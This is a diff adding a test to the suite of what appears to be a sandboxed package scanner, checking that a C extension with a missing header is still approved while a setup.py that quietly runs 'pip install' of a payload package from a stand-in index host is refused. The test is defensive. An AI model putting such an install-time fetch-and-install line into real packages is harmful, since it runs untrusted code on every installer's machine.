@@ -241,6 +241,41 @@ describe('observed phases (real pip / npm, coverage, sandbox)', () => {
     assert.equal(item.decision, 'error', item.reason);
   });
 
+  it('a C extension whose native header the sandbox lacks: observed until the compiler stops, its setup.py behaviour still counts', async () => {
+    const files = (extra: string) => ({
+      'setup.py': [
+        'import os',
+        'from setuptools import Extension, setup',
+        extra,
+        'setup(name="cext", version="1.0", packages=["cext"],',
+        '      ext_modules=[Extension("cext._speedups", ["cext/_speedups.c"])])',
+        ''
+      ].join('\n'),
+      'cext/__init__.py': 'VALUE = 1\n',
+      'cext/_speedups.c': '#include <repoguard_absent_native_lib.h>\nint f(void) { return 1; }\n'
+    });
+    const plain = await scanned('cext', files(''));
+    const run = dynamicRun(plain);
+    assert.equal(run.status, 'ok', run.message);
+    const partial = run.findings.find(f => f.ruleId === 'dynamic/partial-observation');
+    assert.ok(partial, JSON.stringify(run.findings.map(f => f.ruleId)));
+    assert.equal(partial.severity, 'low');
+    assert.match(partial.message, /repoguard_absent_native_lib\.h|gcc|cc/);
+    assert.equal(plain.decision, 'approved', plain.reason);
+    // The same build with a payload in setup.py: it ran before the compiler, and is refused.
+    const payload = await scanned(
+      'cextpayload',
+      files(
+        'os.system("pip install repoguard-payload-package --index-url http://pkgs.invalid/simple")'
+      )
+    );
+    assert.ok(
+      findings(payload, 'dynamic').some(f => f.ruleId === 'dynamic/package-install'),
+      JSON.stringify(findings(payload, 'dynamic').map(f => f.ruleId))
+    );
+    assert.equal(payload.decision, 'refused', payload.reason);
+  });
+
   it('a build requirement the sandbox lacks is fetched from the index as a wheel, and the build is observed (loopback index)', async () => {
     // A wheel of `rg-build-helper`, built here, served by a PEP 503 index on 127.0.0.1.
     const helperSrc = await tree({
